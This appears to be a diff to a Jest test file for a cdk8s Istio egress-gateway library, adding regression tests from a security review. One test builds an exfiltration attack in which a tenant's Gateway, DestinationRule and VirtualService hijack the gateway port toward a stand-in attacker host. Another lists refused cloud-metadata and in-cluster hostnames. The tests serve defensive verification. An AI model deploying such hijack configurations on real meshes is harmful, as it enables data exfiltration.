@@ -1,8 +1,10 @@
 import { Chart, Testing } from 'cdk8s';
 import { Construct } from 'constructs';
 import { TlsOriginationExample } from '../examples/tls-origination/chart';
-import { EgressGateway, EgressPort, OriginationTls, Protocol, TlsOriginationEgress, TrustedCa, WorkloadIdentity } from '../src';
+import { EgressGateway, EgressPort, MeshSettings, OriginationTls, Protocol, TlsOriginationEgress, TrustedCa, WorkloadIdentity } from '../src';
+import { policyAllows } from './authz';
 import { synthValid } from './schema';
+import * as net from '../imports/networking.istio.io';
 
 const GATEWAY_LABELS = { 'cdk8s-istio-egress/gateway': 'egress-gateway.istio-egress' };
 /** The example's gateway: `egress-gateway` in the example's own namespace `istio-egress-tls`. */
@@ -46,8 +48,10 @@ describe('TlsOriginationEgress | the TLS origination task (examples/tls-originat
       'Telemetry/egress-gateway-access-log',
       'DestinationRule/egress-gateway-clients',
       'ServiceEntry/tls-origination',
+      'ServiceEntry/tls-origination-upstream',
       'Gateway/tls-origination',
       'AuthorizationPolicy/tls-origination',
+      'EnvoyFilter/tls-origination-dns',
       'VirtualService/tls-origination-edition-cnn-com',
       'DestinationRule/tls-origination-edition-cnn-com',
     ]);
@@ -55,17 +59,20 @@ describe('TlsOriginationEgress | the TLS origination task (examples/tls-originat
     expect(new Set(istio.map((o) => o.metadata.namespace))).toEqual(new Set(['istio-egress-tls']));
   });
 
-  test('the ServiceEntry declares the HTTP port the app calls and the TLS port the gateway connects to, resolved by DNS', () => {
-    const se = named(objects, 'ServiceEntry', 'tls-origination');
-    expect(se.spec).toEqual({
+  test('the ServiceEntries declare the HTTP port the app calls (for the clients) and the TLS port the gateway connects to (for the gateway), resolved by DNS', () => {
+    expect(named(objects, 'ServiceEntry', 'tls-origination').spec).toEqual({
       hosts: ['edition.cnn.com'],
-      exportTo: ['.', 'default'],
+      exportTo: ['default'],
       location: 'MESH_EXTERNAL',
       resolution: 'DNS',
-      ports: [
-        { number: 80, name: 'http-80', protocol: 'HTTP' },
-        { number: 443, name: 'https-443', protocol: 'HTTPS' },
-      ],
+      ports: [{ number: 80, name: 'http-80', protocol: 'HTTP' }],
+    });
+    expect(named(objects, 'ServiceEntry', 'tls-origination-upstream').spec).toEqual({
+      hosts: ['edition.cnn.com'],
+      exportTo: ['.'],
+      location: 'MESH_EXTERNAL',
+      resolution: 'DNS',
+      ports: [{ number: 443, name: 'https-443', protocol: 'HTTPS' }],
     });
   });
 
@@ -110,7 +117,9 @@ describe('TlsOriginationEgress | the TLS origination task (examples/tls-originat
         match: [{ gateways: ['istio-egress-tls/tls-origination'], port: 80 }],
         route: [{ destination: { host: 'edition.cnn.com', port: { number: 443 } } }],
         // nothing that identifies the calling workload leaves the mesh
-        headers: { request: { remove: ['x-forwarded-client-cert', 'x-forwarded-for', 'x-envoy-peer-metadata', 'x-envoy-peer-metadata-id'] } },
+        headers: {
+          request: { remove: ['x-forwarded-client-cert', 'x-forwarded-for', 'x-envoy-external-address', 'x-envoy-peer-metadata', 'x-envoy-peer-metadata-id'] },
+        },
       },
     ]);
   });
@@ -126,12 +135,18 @@ describe('TlsOriginationEgress | the TLS origination task (examples/tls-originat
     expect(dr.metadata.annotations).toBeUndefined();
   });
 
-  test('the gateway accepts only the sleep service account, on the port its pods listen on', () => {
+  test('the gateway accepts only the sleep service account, on the port its pods listen on, on this server, for the host', () => {
     const ap = named(objects, 'AuthorizationPolicy', 'tls-origination');
     expect(ap.spec).toEqual({
       selector: { matchLabels: EXAMPLE_GATEWAY_LABELS },
       action: 'ALLOW',
-      rules: [{ from: [{ source: { principals: ['cluster.local/ns/default/sa/sleep'] } }], to: [{ operation: { ports: ['8080'] } }] }],
+      rules: [
+        {
+          from: [{ source: { principals: ['cluster.local/ns/default/sa/sleep'] } }],
+          to: [{ operation: { ports: ['8080'], hosts: ['edition.cnn.com'] } }],
+          when: [{ key: 'connection.sni', values: ['edition.cnn.com'] }],
+        },
+      ],
     });
   });
 
@@ -201,8 +216,9 @@ describe('TlsOriginationEgress | origination modes', () => {
       sni: 'files.example.com',
       subjectAltNames: ['*.example.com'],
     });
-    // the CA Secret must be readable by the gateway
-    expect(byKind(objects, 'Role').map((r) => r.metadata.name)).toEqual(['egress-gateway-sds']);
+    // istiod serves a CA-only Secret of the gateway's namespace without RBAC (M5): no Role
+    expect(byKind(objects, 'Role')).toHaveLength(0);
+    expect(byKind(objects, 'RoleBinding')).toHaveLength(0);
   });
 
   test('without verification only on explicit request, with the reason recorded', () => {
@@ -238,6 +254,7 @@ describe('TlsOriginationEgress | several hosts and originations on one gateway',
     const hosts = ['api.github.com', 'edition.cnn.com', 'www.googleapis.com'];
     expect(o.hosts).toEqual(hosts);
     expect(named(objects, 'ServiceEntry', 'tls-origination').spec.hosts).toEqual(hosts);
+    expect(named(objects, 'ServiceEntry', 'tls-origination-upstream').spec.hosts).toEqual(hosts);
     const servers = named(objects, 'Gateway', 'tls-origination').spec.servers;
     expect(servers).toHaveLength(1);
     expect(servers[0].hosts).toEqual(hosts.map((h) => `./${h}`));
@@ -303,7 +320,10 @@ describe('TlsOriginationEgress | several hosts and originations on one gateway',
     expect(byKind(objects, 'Telemetry')).toHaveLength(0);
     expect(byKind(objects, 'Role')).toHaveLength(0); // the installation owns an existing gateway's RBAC
     expect(o.exportTo).toEqual(['*']);
-    expect(named(objects, 'ServiceEntry', 'tls-origination').spec.ports.map((p: any) => p.number)).toEqual([8080, 8443]);
+    expect(named(objects, 'ServiceEntry', 'tls-origination').spec.ports.map((p: any) => p.number)).toEqual([8080]);
+    expect(named(objects, 'ServiceEntry', 'tls-origination').spec.exportTo).toEqual(['*']);
+    expect(named(objects, 'ServiceEntry', 'tls-origination-upstream').spec.ports.map((p: any) => p.number)).toEqual([8443]);
+    expect(named(objects, 'ServiceEntry', 'tls-origination-upstream').spec.exportTo).toEqual(['.']);
     const vs = named(objects, 'VirtualService', 'tls-origination-api-example-com');
     expect(vs.spec.http[0].match).toEqual([{ gateways: ['mesh'], port: 8080 }]);
     expect(vs.spec.http[1].route[0].destination).toEqual({ host: 'api.example.com', port: { number: 8443 } });
@@ -447,5 +467,282 @@ describe('TlsOriginationEgress | bad input', () => {
     expect(() => new TlsOriginationEgress(Testing.chart(), 'o', { hosts: ['a.com'] })).toThrow(
       'test/o: allowFrom: the chart has no namespace, so the calling workloads are unknown; pass allowFrom (e.g. [WorkloadIdentity.allInNamespace("apps")]) or give the chart a namespace',
     );
+  });
+});
+
+/**
+ * Which ports of `host` a proxy in `namespace` gets from the ServiceEntries (all in one namespace, as the construct
+ * makes them), modelled on Istio 1.30.3: the proxy's services are those exported to its namespace (`.`, the
+ * namespace, or an explicit list) followed by the public ones (`push_context.go` `servicesExportedToNamespace`); of
+ * several entries for one host in one namespace the first is kept, and a later one is merged into it only when
+ * resolution, labels and exportTo are equal (`sidecar.go` `appendSidecarServices`, `canMergeServices`). Entries are
+ * taken in the order given (creation order).
+ */
+function portsSeenBy(serviceEntries: any[], host: string, namespace: string): number[] {
+  const visible = (se: any, publicOnes: boolean) => {
+    const exportTo: string[] = se.spec.exportTo ?? ['*'];
+    if (publicOnes) {
+      return exportTo.includes('*');
+    }
+    return !exportTo.includes('*') && exportTo.some((ns) => (ns === '.' ? se.metadata.namespace : ns) === namespace);
+  };
+  const withHost = serviceEntries.filter((se) => se.spec.hosts.includes(host));
+  const ordered = [...withHost.filter((se) => visible(se, false)), ...withHost.filter((se) => visible(se, true))];
+  if (ordered.length === 0) {
+    return [];
+  }
+  const [first, ...rest] = ordered;
+  const ports = first.spec.ports.map((p: any) => p.number);
+  const key = (se: any) => JSON.stringify([se.spec.resolution, se.metadata.labels, [...(se.spec.exportTo ?? [])].sort()]);
+  for (const se of rest) {
+    if (key(se) === key(first)) {
+      ports.push(...se.spec.ports.map((p: any) => p.number).filter((n: number) => !ports.includes(n)));
+    }
+  }
+  return ports.sort((a: number, b: number) => a - b);
+}
+
+describe('TlsOriginationEgress | security review 2026-12', () => {
+  test('H3: a foreign selector-less Gateway server on the origination port gets nothing from the policy; only this server (its SNIs and hosts) is allowed', () => {
+    // GIVEN the origination (clients: every workload of namespace apps)
+    const chart = appsChart();
+    const o = new TlsOriginationEgress(chart, 'o', { hosts: ['edition.cnn.com'] });
+    o.addHost('api.github.com');
+    const policy = named(synthValid(chart), 'AuthorizationPolicy', 'tls-origination');
+
+    // AND the review's attack, objects a tenant of `apps` creates (schema-valid): a selector-less Gateway (it applies
+    // to every gateway proxy, push_context.go mergeGateways) with an HTTPS ISTIO_MUTUAL server on the same port, a
+    // DestinationRule subset presenting its SNI, a ServiceEntry and a VirtualService to the exfiltration host.
+    const attacker = new Chart(Testing.app(), 'attacker', { namespace: 'apps' });
+    new net.Gateway(attacker, 'hijack', {
+      metadata: { name: 'hijack' },
+      spec: { servers: [{ port: { number: 80, name: 'https-hijack', protocol: 'HTTPS' }, hosts: ['apps/exfil.attacker.example'], tls: { mode: net.GatewaySpecServersTlsMode.ISTIO_UNDERSCORE_MUTUAL } }] },
+    });
+    new net.ServiceEntry(attacker, 'exfil', {
+      metadata: { name: 'exfil' },
+      spec: { hosts: ['exfil.attacker.example'], location: net.ServiceEntrySpecLocation.MESH_UNDERSCORE_EXTERNAL, resolution: net.ServiceEntrySpecResolution.DNS, ports: [{ number: 443, name: 'tls', protocol: 'TLS' }] },
+    });
+    new net.DestinationRule(attacker, 'subset', {
+      metadata: { name: 'hijack-subset' },
+      spec: {
+        host: o.gateway.serviceFqdn,
+        exportTo: ['.'],
+        subsets: [{ name: 'hijack', trafficPolicy: { portLevelSettings: [{ port: { number: 80 }, tls: { mode: net.DestinationRuleSpecSubsetsTrafficPolicyPortLevelSettingsTlsMode.ISTIO_UNDERSCORE_MUTUAL, sni: 'exfil.attacker.example' } }] } }],
+      },
+    });
+    new net.VirtualService(attacker, 'route', {
+      metadata: { name: 'hijack' },
+      spec: {
+        hosts: ['exfil.attacker.example'],
+        gateways: ['mesh', 'apps/hijack'],
+        http: [
+          { match: [{ gateways: ['mesh'] }], route: [{ destination: { host: o.gateway.serviceFqdn, subset: 'hijack', port: { number: 80 } } }] },
+          { match: [{ gateways: ['apps/hijack'] }], route: [{ destination: { host: 'exfil.attacker.example', port: { number: 443 } } }] },
+        ],
+      },
+    });
+    const foreign = synthValid(attacker);
+    const server = named(foreign, 'Gateway', 'hijack').spec.servers[0];
+    expect(server.port.number).toBe(o.gatewayPort.number); // the same pod port, 8080
+
+    // WHEN a workload of apps sends a request through the foreign server: its SNI and Host are the attacker's
+    const client = 'cluster.local/ns/apps/sa/default';
+    const port = o.gatewayPort.targetPort!;
+    const hijack = { principal: client, port, sni: server.hosts[0].split('/')[1], host: 'exfil.attacker.example' };
+    // THEN the origination's policy does not allow it (before the fix it did: any server on 8080 was allowed)
+    expect(policyAllows(policy, hijack)).toBe(false);
+    // nor with our Host on the foreign server, nor a foreign Host on our server
+    expect(policyAllows(policy, { ...hijack, host: 'edition.cnn.com' })).toBe(false);
+    expect(policyAllows(policy, { ...hijack, sni: 'edition.cnn.com' })).toBe(false);
+    // AND this construct's own traffic still passes, for each host, only from the allowed namespace
+    for (const host of o.hosts) {
+      expect(policyAllows(policy, { principal: client, port, sni: host, host })).toBe(true);
+      expect(policyAllows(policy, { principal: 'cluster.local/ns/other/sa/default', port, sni: host, host })).toBe(false);
+    }
+    // AND the policy's SNIs are exactly what the client subsets present
+    const subsetSnis = clientRule(synthValid(chart)).spec.subsets.map((s: any) => s.trafficPolicy.portLevelSettings[0].tls.sni).sort();
+    expect(policy.spec.rules[0].when).toEqual([{ key: 'connection.sni', values: subsetSnis }]);
+  });
+
+  test('M4: the gateway removes every request header that identifies the caller (certificate, SPIFFE ID, pod IP, workload metadata), and no other', () => {
+    const chart = appsChart();
+    new TlsOriginationEgress(chart, 'o', { hosts: ['edition.cnn.com', 'api.github.com'] });
+    const routes = byKind(synthValid(chart), 'VirtualService').map((vs) => vs.spec.http.find((r: any) => r.name === 'egress-gateway-to-host'));
+    expect(routes).toHaveLength(2);
+    for (const route of routes) {
+      expect(route.headers).toEqual({
+        request: {
+          remove: ['x-forwarded-client-cert', 'x-forwarded-for', 'x-envoy-external-address', 'x-envoy-peer-metadata', 'x-envoy-peer-metadata-id'],
+        },
+      });
+    }
+  });
+
+  test('M5: a CA-only Secret (TrustedCa.fromSecret) gives the gateway no RBAC; only mutual TLS (a client key) gets the SDS Role', () => {
+    const caOnly = appsChart();
+    new TlsOriginationEgress(caOnly, 'o', { hosts: ['api.example.com'], tls: OriginationTls.simple({ ca: TrustedCa.fromSecret('partner-ca') }) });
+    const objects = synthValid(caOnly);
+    expect(objects.filter((x) => ['Role', 'RoleBinding', 'ClusterRole', 'ClusterRoleBinding'].includes(x.kind))).toEqual([]);
+    expect(named(objects, 'DestinationRule', 'tls-origination-api-example-com').spec.trafficPolicy.portLevelSettings[0].tls.credentialName).toBe('partner-ca');
+
+    const mutual = appsChart();
+    const o = new TlsOriginationEgress(mutual, 'o', { hosts: ['api.example.com'], tls: OriginationTls.simple({ ca: TrustedCa.fromSecret('partner-ca') }) });
+    expect(byKind(synthValid(mutual), 'Role')).toHaveLength(0);
+    o.addHost('mtls.example.com', { tls: OriginationTls.mutual({ credentialName: 'client-key' }) });
+    expect(byKind(synthValid(mutual), 'Role').map((r) => [r.metadata.namespace, r.metadata.name, r.rules])).toEqual([
+      ['istio-egress', 'egress-gateway-sds', [{ apiGroups: [''], resources: ['secrets'], verbs: ['get', 'watch', 'list'] }]],
+    ]);
+  });
+
+  test('M6: the gateway resolves every originated host exactly as given, never through the pod\'s DNS search path', () => {
+    const chart = appsChart();
+    const o = new TlsOriginationEgress(chart, 'o', { hosts: ['httpbin.org'], tlsPort: 8443, httpPort: 8080 });
+    o.addHost('edition.cnn.com');
+    const objects = synthValid(chart);
+    const filter = named(objects, 'EnvoyFilter', 'tls-origination-dns');
+    expect(filter.metadata.namespace).toBe(o.namespace);
+    expect(filter.spec.workloadSelector).toEqual({ labels: o.gateway.selectorLabels });
+    expect(filter.spec.priority).toBe(10);
+    const cares = {
+      name: 'envoy.network.dns_resolver.cares',
+      typed_config: {
+        '@type': 'type.googleapis.com/envoy.extensions.network.dns_resolver.cares.v3.CaresDnsResolverConfig',
+        'dns_resolver_options': { no_default_search_domain: true },
+        'udp_max_queries': 100,
+      },
+    };
+    // one MERGE per host, on the gateway's cluster for that host and the TLS port only (outbound|8443||<host>)
+    expect(filter.spec.configPatches).toEqual(
+      ['edition.cnn.com', 'httpbin.org'].map((host) => ({
+        applyTo: 'CLUSTER',
+        match: { context: 'GATEWAY', cluster: { service: host, portNumber: 8443 } },
+        patch: { operation: 'MERGE', value: { typed_dns_resolver_config: cares } },
+      })),
+    );
+    // every host the gateway connects to is covered: the hosts of the gateway-only ServiceEntry
+    const upstream = named(objects, 'ServiceEntry', 'tls-origination-upstream');
+    expect(filter.spec.configPatches.map((p: any) => p.match.cluster.service)).toEqual(upstream.spec.hosts);
+    expect(upstream.spec.resolution).toBe('DNS');
+  });
+
+  test('L9: client sidecars never learn host:443; the gateway sees only host:443; clients in the gateway namespace are refused', () => {
+    const example = synthValid(new TlsOriginationExample(Testing.app(), 'x'));
+    const entries = byKind(example, 'ServiceEntry');
+    expect(portsSeenBy(entries, 'edition.cnn.com', 'default')).toEqual([80]);
+    expect(portsSeenBy(entries, 'edition.cnn.com', 'istio-egress-tls')).toEqual([443]);
+    expect(portsSeenBy(entries, 'edition.cnn.com', 'elsewhere')).toEqual([]);
+
+    // any in-mesh client: public for the clients; the gateway keeps its private entry first
+    const chart = appsChart();
+    new TlsOriginationEgress(chart, 'o', { hosts: ['api.example.com'], allowFrom: [WorkloadIdentity.anyInMesh()] });
+    const anyEntries = byKind(synthValid(chart), 'ServiceEntry');
+    expect(portsSeenBy(anyEntries, 'api.example.com', 'apps')).toEqual([80]);
+    expect(portsSeenBy(anyEntries, 'api.example.com', 'istio-egress')).toEqual([443]);
+
+    // clients in the gateway's namespace would see both entries: refused
+    expect(() => new TlsOriginationEgress(appsChart(), 'o', { hosts: ['a.com'], allowFrom: [WorkloadIdentity.allInNamespace('apps'), WorkloadIdentity.serviceAccount('istio-egress', 'x')] })).toThrow(
+      'test/o: allowFrom[1]: the identity is the gateway\'s namespace "istio-egress": that namespace sees the gateway-only ServiceEntry of the hosts\' TLS port, so applications there cannot be clients. Run the applications in another namespace and list it in allowFrom',
+    );
+    const sameNamespace = new Chart(Testing.app(), 'test', { namespace: 'istio-egress' });
+    expect(() => new TlsOriginationEgress(sameNamespace, 'o', { hosts: ['a.com'] })).toThrow(
+      'test/o: allowFrom: the default client namespace (the chart\'s) is the gateway\'s namespace "istio-egress"',
+    );
+  });
+
+  test.each([
+    ['kubernetes.default.svc.cluster.local', 'it is an in-cluster name under the cluster domain "cluster.local"'],
+    ['egress-gateway.istio-egress.svc.cluster.local', '"egress-gateway.istio-egress.svc.cluster.local" is this egress gateway\'s own Service: traffic to it would loop back into the gateway'],
+    ['istiod.istio-system.svc', 'the top-level domain ".svc" is how Kubernetes names Services'],
+    ['kubernetes.default', '"default" is a Kubernetes namespace of this cluster, not a top-level domain'],
+    ['egress-gateway.istio-egress', '"istio-egress" is a Kubernetes namespace of this cluster'],
+    ['metadata.google.internal', 'the top-level domain ".internal" is reserved for private networks, where cloud metadata services'],
+    ['instance-data.ec2.internal', 'the top-level domain ".internal"'],
+    ['metadata.goog', '"metadata.goog" is the Google Cloud instance metadata service'],
+    ['printer.local', 'the top-level domain ".local"'],
+    ['localhost.example.com', 'a name starting with "localhost." often resolves to the loopback address'],
+    ['169.254.169.254.nip.io', 'names under "nip.io" resolve to the IP address written in the name'],
+  ])('M3: refuses %s as an external host, naming the risk and the opt-in', (host, reason) => {
+    expect(() => new TlsOriginationEgress(appsChart(), 'o', { hosts: [host] })).toThrow(`test/o: hosts[0]: Refused host "${host}": ${reason}`);
+    expect(() => new TlsOriginationEgress(appsChart(), 'o', { hosts: [host] })).toThrow(
+      `If it must be reachable all the same, list it in hostExemptions with the reason ({ host: "${host}", reason: "..." })`,
+    );
+  });
+
+  test('M3: in-cluster names follow the mesh\'s cluster domain, and the gateway\'s', () => {
+    const mesh = new MeshSettings({ clusterDomain: 'k8s.example.net' });
+    expect(() => new TlsOriginationEgress(appsChart(), 'o', { mesh, hosts: ['api.svc.k8s.example.net'] })).toThrow(
+      'test/o: hosts[0]: Refused host "api.svc.k8s.example.net": it is an in-cluster name under the cluster domain "k8s.example.net"',
+    );
+    // cluster.local is only in-cluster where it is the cluster domain; .local is refused anyway
+    expect(() => new TlsOriginationEgress(appsChart(), 'o', { mesh, hosts: ['x.cluster.local'] })).toThrow('the top-level domain ".local"');
+    new TlsOriginationEgress(appsChart(), 'o', { mesh, hosts: ['api.example.net'] });
+  });
+
+  test('M3: an exemption with a reason admits a refused host and records the reason on the ServiceEntry', () => {
+    const chart = appsChart();
+    const o = new TlsOriginationEgress(chart, 'o', {
+      hosts: ['api.example.com'],
+      hostExemptions: [{ host: 'vault.corp', reason: 'the corporate Vault is outside the cluster (SEC-42)' }],
+    });
+    o.addHost('vault.corp');
+    const objects = synthValid(chart);
+    expect(o.hosts).toEqual(['api.example.com', 'vault.corp']);
+    expect(named(objects, 'ServiceEntry', 'tls-origination').metadata.annotations).toEqual({
+      'cdk8s-istio-egress/host-exemptions': JSON.stringify({ 'vault.corp': 'the corporate Vault is outside the cluster (SEC-42)' }),
+    });
+  });
+
+  test.each([
+    [[{ host: 'vault.corp', reason: ' ' }], ['vault.corp'], 'test/o: hostExemptions[0].reason: the exemption of "vault.corp" needs a reason'],
+    [[{ host: 'vault.corp' }], ['vault.corp'], 'test/o: hostExemptions[0].reason: the exemption of "vault.corp" needs a reason'],
+    [[{ reason: 'x' }], ['vault.corp'], 'test/o: hostExemptions[0].host: give the host exactly as listed'],
+    [[null], ['vault.corp'], 'test/o: hostExemptions[0]: expected { host: "...", reason: "..." }'],
+    [[{ host: 'vault.corp', reason: 'a' }, { host: 'vault.corp', reason: 'b' }], ['vault.corp'], 'test/o: hostExemptions[1]: "vault.corp" is already exempted at hostExemptions[0]; list each host once'],
+    [[{ host: 'api.example.com', reason: 'x' }], ['api.example.com'], 'test/o: hosts[0]: host "api.example.com" is exempted in hostExemptions[0] but the library does not refuse it; remove the exemption'],
+  ])('M3: a bad exemption fails (%j)', (hostExemptions, hosts, message) => {
+    expect(() => new TlsOriginationEgress(appsChart(), 'o', { hosts, hostExemptions } as any)).toThrow(message);
+  });
+
+  test('M3: an exemption for a host that is never added fails at synth', () => {
+    const chart = appsChart();
+    new TlsOriginationEgress(chart, 'o', { hosts: ['api.example.com'], hostExemptions: [{ host: 'vault.corp', reason: 'SEC-42' }] });
+    expect(() => Testing.synth(chart)).toThrow('[test/o] hostExemptions[0]: "vault.corp" is exempted but not among the hosts; remove the exemption or add the host');
+  });
+});
+
+describe('TlsOriginationEgress | claims of the security review that hold', () => {
+  test('claim: SIMPLE origination sends the host as SNI and checks it as subjectAltName; no CA means the system bundle', () => {
+    const chart = appsChart();
+    new TlsOriginationEgress(chart, 'o', { hosts: ['api.example.com'] });
+    const dr = named(synthValid(chart), 'DestinationRule', 'tls-origination-api-example-com');
+    // cluster_tls.go: an empty caCertificates is `system` (verify against the OS roots)
+    expect(dr.spec.trafficPolicy.portLevelSettings[0].tls).toEqual({ mode: 'SIMPLE', sni: 'api.example.com', subjectAltNames: ['api.example.com'] });
+  });
+
+  test('claim: the origination DestinationRule is confined to the gateway (workloadSelector, exportTo ".")', () => {
+    const chart = appsChart();
+    const o = new TlsOriginationEgress(chart, 'o', { hosts: ['api.example.com'], allowFrom: [WorkloadIdentity.anyInMesh()] });
+    const dr = named(synthValid(chart), 'DestinationRule', 'tls-origination-api-example-com');
+    expect(dr.spec.exportTo).toEqual(['.']);
+    expect(dr.spec.workloadSelector).toEqual({ matchLabels: o.gateway.selectorLabels });
+  });
+
+  test('claim: only this origination\'s VirtualServices can bind to its server (hosts "./<host>"), so the route config holds only its hosts', () => {
+    const chart = appsChart();
+    const o = new TlsOriginationEgress(chart, 'o', { hosts: ['api.example.com', 'edition.cnn.com'] });
+    const objects = synthValid(chart);
+    expect(named(objects, 'Gateway', 'tls-origination').spec.servers[0].hosts).toEqual(['./api.example.com', './edition.cnn.com']);
+    for (const vs of byKind(objects, 'VirtualService')) {
+      expect(vs.metadata.namespace).toBe(o.namespace);
+      expect(vs.spec.gateways).toEqual(['mesh', `${o.namespace}/tls-origination`]);
+    }
+  });
+
+  test('claim: the gateway server requires Istio mutual TLS (ISTIO_MUTUAL), so every caller has a verified identity', () => {
+    const chart = appsChart();
+    new TlsOriginationEgress(chart, 'o', { hosts: ['api.example.com'] });
+    const objects = synthValid(chart);
+    expect(named(objects, 'Gateway', 'tls-origination').spec.servers.map((s: any) => s.tls)).toEqual([{ mode: 'ISTIO_MUTUAL' }]);
+    expect(named(objects, 'AuthorizationPolicy', 'tls-origination').spec.rules[0].from).toEqual([{ source: { namespaces: ['apps'] } }]);
   });
 });
